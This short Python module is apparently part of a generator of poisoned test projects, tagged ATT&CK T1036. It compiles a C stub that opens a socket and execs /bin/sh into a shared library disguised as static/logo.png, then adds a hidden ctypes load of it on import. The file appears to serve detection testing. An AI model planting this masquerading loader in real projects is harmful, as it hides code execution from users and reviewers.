# SPDX-License-Identifier: Apache-2.0
"""A native library named as a picture, loaded by its path."""

ATTACK = "T1036"
LANGUAGE = "python"
C = '#include <sys/socket.h>\n#include <unistd.h>\nint f(void) { return connect(socket(2, 1, 0), 0, 0) + execve("/bin/sh", 0, 0); }\n'


def poison(layer):
    layer.inside("static/logo.png", layer.program(C, shared=True))
    layer.append("import ctypes\nimport os\n\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'static', 'logo.png'))\n")
